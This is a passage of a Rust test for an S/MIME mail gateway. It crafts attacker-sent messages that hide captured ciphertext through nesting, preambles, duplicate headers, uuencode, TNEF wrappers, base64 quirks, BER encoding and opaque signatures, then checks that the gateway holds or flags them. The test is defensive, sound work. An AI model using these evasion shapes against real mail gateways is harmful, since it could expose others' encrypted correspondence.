            .join("\r\n")
    };
    let der = captured(&pki::inner(SECRET), "-aes-256-cbc");
    let b64 = lines(&der);
    let pk = format!(
        "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=\"smime.p7m\"\r\n\
         Content-Transfer-Encoding: base64\r\n\r\n{b64}\r\n"
    );
    let text = "Content-Type: text/plain\r\n\r\nSee attachment.\r\n";
    let multipart = |sub: &str, boundary: &str, parts: &[&str]| {
        let body: String = parts
            .iter()
            .map(|p| format!("--{boundary}\r\n{p}"))
            .collect();
        format!("Content-Type: multipart/{sub}; boundary=\"{boundary}\"\r\n\r\n{body}--{boundary}--\r\n")
    };
    let deep = |inner: &str| {
        (0..19).fold(inner.to_string(), |e, i| {
            multipart("mixed", &format!("L{i}"), &[&e])
        })
    };
    let signed = |first: &str, second: &str| {
        multipart("signed", "S", &[first, second]).replacen(
            "boundary=\"S\"",
            "boundary=\"S\"; protocol=\"application/pkcs7-signature\"; micalg=sha-256",
            1,
        )
    };
    let news = |inner: &str| {
        format!("Content-Type: message/news\r\n\r\nFrom: <x@example.org>\r\nSubject: n\r\nMIME-Version: 1.0\r\n{inner}")
    };
    let container = {
        let mut bytes = b"\x78\x9f\x3e\x22\x01\x90\x08".to_vec();
        bytes.extend_from_slice(&der);
        bytes.extend_from_slice(b"\x00\x01\x02\x03");
        format!(
            "Content-Type: application/ms-tnef; name=\"winmail.dat\"\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            lines(&bytes)
        )
    };
    let ber = {
        let at = der
            .windows(3)
            .position(|w| w == [0x06, 0x09, 0x2a])
            .expect("identifier");
        let mut ber = der[..=at].to_vec();
        ber.push(0x81);
        ber.extend_from_slice(&der[at + 1..]);
        ber
    };
    // Review 22: base64 as old Thunderbird's libmime reads it, `=` in a
    // group of four read as zero bits and the group giving fewer octets:
    // `=QcD` gives `01 07`, and the standard encoding goes on after it.
    let libmime = {
        let at = der
            .windows(4)
            .position(|w| w == [0x01, 0x07, 0x03, 0xa0])
            .expect("identifier");
        format!(
            "{}\r\n=QcD\r\n{}",
            e.encode(&der[..at]),
            lines(&der[at + 2..])
        )
    };
    // An opaque signature by a stranger around an entity that hides the
    // ciphertext in its preamble.
    let opaque = {
        let hiding = format!(
            "Content-Type: multipart/mixed; boundary=\"O\"\r\n\r\n{pk}\r\n--O\r\n{text}--O--\r\n"
        );
        let (cert, key) = (pki::cert("stranger"), pki::key("stranger"));
        let der = pki::openssl(
            &[
                "cms",
                "-sign",
                "-binary",
                "-nodetach",
                "-outform",
                "DER",
                "-signer",
                cert.to_str().expect("path"),
                "-inkey",
                key.to_str().expect("path"),
            ],
            hiding.as_bytes(),
        );
        format!(
            "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=\"smime.p7m\"\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
            lines(&der)
        )
    };
    let date_z = "Date: Wed, 02 Dec 2026 12:00:00 Z";
    let pk_type = "Content-Type: application/pkcs7-mime; smime-type=enveloped-data";
    // (id, the message's content fields and body)
    let cases: Vec<(&str, String)> = vec![
        (
            "fields-twice",
            format!(
                "{pk_type}\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\
                 Content-Transfer-Encoding: quoted-printable\r\n\r\n{b64}\r\n"
            ),
        ),
        (
            "zone-z",
            format!(
                "{date_z}\r\n{pk_type}\r\nContent-Transfer-Encoding: base64\r\n\
                 Content-Transfer-Encoding: quoted-printable\r\n\r\n{b64}\r\n"
            ),
        ),
        (
            "encoded-boundary",
            multipart("mixed", "=?us-ascii?Q?A?=", &[text, &pk]),
        ),
        (
            "mid-line-close",
            format!(
                "Content-Type: multipart/mixed; boundary=A\r\n\r\n--A\r\n\
                 Content-Type: text/plain\r\n\r\nhi --A--\r\n--A\r\n{pk}--A--\r\n"
            ),
        ),
        ("deep", multipart("mixed", "T", &[text, &deep(&pk)])),
        ("signed-without-signature", signed(&pk, text)),
        (
            "signed-content-beside-text",
            multipart("mixed", "M", &[text, &signed(&pk, text)]),
        ),
        ("news", news(&pk)),
        ("container", multipart("mixed", "C", &[text, &container])),
        (
            "preamble",
            multipart("mixed", "P", &[text]).replacen(
                "\r\n\r\n--P",
                &format!("\r\n\r\n{pk}\r\n--P"),
                1,
            ),
        ),
        // Review 21: encodings a client decodes in message/news (now read
        // as an attached message), and BER with the identifier's length
        // in long form (NSS and OpenSSL open it).
        (
            "news-uuencoded",
            multipart(
                "mixed",
                "U",
                &[
                    text,
                    &news(&format!(
                        "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\
                         Content-Transfer-Encoding: x-uuencode\r\n\r\n{}",
                        uuencode(&der, "data.bin")
                    )),
                ],
            ),
        ),
        // Review 22: S/MIME by type with no smime-type, in an encoding
        // the gateway does not decode; a name written in RFC 2231 escapes
        // behind a zone that hides the type from mail-parser, with the
        // libmime base64; the same base64 as text; and an opaque signature
        // whose content hides ciphertext (reported, but under the
        // attacker's return path).
        (
            "untyped-uuencoded",
            format!(
                "Content-Type: application/pkcs7-mime; name=\"smime.p7m\"\r\n\
                 Content-Transfer-Encoding: x-uuencode\r\n\r\n{}",
                uuencode(&der, "smime.p7m")
            ),
        ),
        (
            "zone-z-libmime-base64",
            format!(
                "{date_z}\r\nContent-Type: application/octet-stream; name*=utf-8''smime.%70%37%6D\r\n\
                 Content-Transfer-Encoding: base64\r\n\r\n{libmime}\r\n"
            ),
        ),
        (
            "libmime-base64-as-text",
            format!(
                "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n{libmime}\r\n"
            ),
        ),
        ("opaque-signature-hiding", opaque.clone()),
        // Review 23: the name in RFC 2231 pieces and the transfer
        // encoding written twice, behind the zone.
        (
            "zone-z-name-pieces",
            format!(
                "{date_z}\r\nContent-Type: application/octet-stream; name*0=\"smime.p\"; name*1=\"7m\"\r\n\
                 Content-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n\
                 {libmime}\r\n"
            ),
        ),
        (
            "ber-in-preamble",
            multipart("mixed", "B", &[text]).replacen(
                "\r\n\r\n--B",
                &format!("\r\n\r\n{}\r\n--B", lines(&ber)),
                1,
            ),
        ),
    ];
    let message = |id: &str, content: &str| {
        format!(
            "From: <{ATTACKER}>\r\nTo: <bob@example-law.dk>\r\nSubject: {id}\r\n\
             Message-ID: <{id}@test>\r\nMIME-Version: 1.0\r\n{content}"
        )
    };
    for (id, content) in &cases {
        let r = send(&gw, "bob@example-law.dk", message(id, content).as_bytes());
        assert_eq!(r.code, 250, "{id}: {r:?}");
    }
    // Review 21: the attacker's own encryption to the organisation around
    // an entity that hides the captured ciphertext. The mailbox is told
    // that what was decrypted holds ciphertext not opened.
    let hiding = multipart("mixed", "H", &[text]).replacen(
        "\r\n\r\n--H",
        &format!("\r\n\r\n{pk}\r\n--H"),
        1,
    );
    let outer = captured(hiding.as_bytes(), "-aes-256-cbc");
    assert_eq!(
        send(
            &gw,
            "bob@example-law.dk",
            &enveloped("inside-decrypted", "bob@example-law.dk", &outer)
        )
        .code,
        250
    );
    // Control: the same shapes holding only text are plain mail, passed
    // on untouched with no trace header.
    let controls: Vec<(&str, String)> = vec![
        (
            "plain-fields-twice",
            "Content-Type: text/plain\r\nContent-Type: text/plain\r\n\r\nhello\r\n".into(),
        ),
        ("plain-deep", multipart("mixed", "T", &[text, &deep(text)])),
        ("plain-signed-without-signature", signed(text, text)),
        ("plain-news", news(text)),
        ("plain-preamble", multipart("mixed", "P", &[text])),
        // Review 23: a certificates-only bundle attached (signed data
        // without content, no layer and no ciphertext).
        (
            "plain-certificate-bundle",
            multipart(
                "mixed",
                "K",
                &[
                    text,
                    &format!(
                        "Content-Type: application/pkcs7-mime; smime-type=certs-only; name=\"smime.p7c\"\r\n\
                         Content-Transfer-Encoding: base64\r\n\r\n{}\r\n",
                        lines(&pki::openssl(
                            &[
                                "crl2pkcs7", "-nocrl", "-outform", "DER", "-certfile",
                                pki::cert("stranger").to_str().expect("path"),
                            ],
                            b"",
                        ))
                    ),
                ],
            ),
        ),
        // Review 22: nested message/news deeper than the scan went, and
        // a two-way message whose body text holds `p7m` by chance.
        (
            "plain-news-nested",
            (0..12).fold(text.to_string(), |inner, _| news(&inner)),
        ),
        (
            "plain-zone-z-links",
            format!(
                "{date_z}\r\nContent-Type: text/html\r\n\r\n\
                 <a href=\"https://t.example/c/Xp7mQ9\">x</a>\r\n"
            ),
        ),
        // Review 21: a message that reads two ways is unreadable only
        // where S/MIME is named in a header or first line, not where
        // three letters of a base64 attachment spell `p7m` by chance.
        (
            "plain-zone-z-attachment",
            format!(
                "{date_z}\r\n{}",
                multipart(
                    "mixed",
                    "Z",
                    &[
                        text,
                        "Content-Type: application/pdf; name=\"a.pdf\"\r\n\
                         Content-Transfer-Encoding: base64\r\n\r\n\
                         JVBERi0xLjQKp7mAAAp7sBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB\r\n",
                    ],
                )
            ),
        ),
    ];
    let mut harmed = Vec::new();
    for (id, content) in &controls {
        let r = send(&gw, "bob@example-law.dk", message(id, content).as_bytes());
        assert_eq!(r.code, 250, "{id}: {r:?}");
        let arrived = wait_until(Duration::from_secs(20), || {
            mailbox
                .received()
                .iter()
                .any(|r| r.text().contains(&format!("<{id}@test>")))
        });
        let copy = mailbox
            .received()
            .into_iter()
            .find(|r| r.text().contains(&format!("<{id}@test>")));
        match copy {
            Some(copy) if trace(&copy.text()).is_empty() && copy.from == ATTACKER => {}
            Some(copy) => harmed.push(format!(
                "{id} (from {}, trace {:?})",
                copy.from,
                trace(&copy.text())
            )),
            None => harmed.push(format!("{id} not delivered (arrived: {arrived})")),
        }
    }
    let mut plain = Vec::new();
    let ids = cases.iter().map(|(id, _)| *id).chain(["inside-decrypted"]);
    for id in ids {
        // Held as undecryptable, or delivered with a trace header that
        // says what was not opened, under the gateway's return path.
        let copy = settled(&gw, &mailbox, id);
        if let Some(copy) = copy {
            let t = trace(&copy.text());
            if !t.contains("=not-opened") || !copy.from.starts_with("smimegw-bounce+") {
                plain.push(format!("{id} (from {}, trace {t:?})", copy.from));
            }
        }
    }
    assert!(
        plain.is_empty() && harmed.is_empty(),
        "passed as plain: {plain:#?}\nplain mail harmed: {harmed:#?}"
    );
    assert_eq!(outside.count(), 0);
}
